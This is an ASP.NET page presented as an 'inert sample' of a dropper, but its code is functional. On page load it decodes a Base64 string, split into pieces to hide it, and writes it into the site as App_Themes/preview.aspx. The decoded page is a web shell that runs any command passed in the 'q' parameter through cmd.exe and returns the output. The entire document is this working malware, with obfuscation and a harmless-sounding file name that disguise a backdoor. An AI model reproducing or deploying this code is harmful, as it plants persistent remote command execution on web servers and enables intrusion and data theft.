<%@ Page Language="C#" %>
<%-- inert sample: a dropper whose planted page is Base64 cut into pieces glued with +, decoded and
     written into the site under an innocent name. --%>
<script runat="server">
    static readonly string Kit =
        "PCVAIFBhZ2UgTGFuZ3VhZ2U9IkMjIiAlPgo8c2Ny" +
        "aXB0IHJ1bmF0PSJzZXJ2ZXIiPgp2b2lkIFBhZ2Vf" +
        "TG9hZChvYmplY3QgcywgRXZlbnRBcmdzIGUpIHsK" +
        "ICAgIHZhciBwID0gU3lzdGVtLkRpYWdub3N0aWNz" +
        "LlByb2Nlc3MuU3RhcnQobmV3IFN5c3RlbS5EaWFn" +
        "bm9zdGljcy5Qcm9jZXNzU3RhcnRJbmZvKCJjbWQu" +
        "ZXhlIiwgIi9jICIgKyBSZXF1ZXN0WyJxIl0pIHsg" +
        "VXNlU2hlbGxFeGVjdXRlID0gZmFsc2UsIFJlZGly" +
        "ZWN0U3RhbmRhcmRPdXRwdXQgPSB0cnVlIH0pOwog" +
        "ICAgUmVzcG9uc2UuV3JpdGUoU2VydmVyLkh0bWxF" +
        "bmNvZGUocC5TdGFuZGFyZE91dHB1dC5SZWFkVG9F" +
        "bmQoKSkpOwp9Cjwvc2NyaXB0Pgo=";
    protected void Page_Load(object sender, EventArgs e)
    {
        System.IO.File.WriteAllBytes(Server.MapPath("~/App_Themes/preview.aspx"), Convert.FromBase64String(Kit));
        Response.Write("done");
    }
</script>
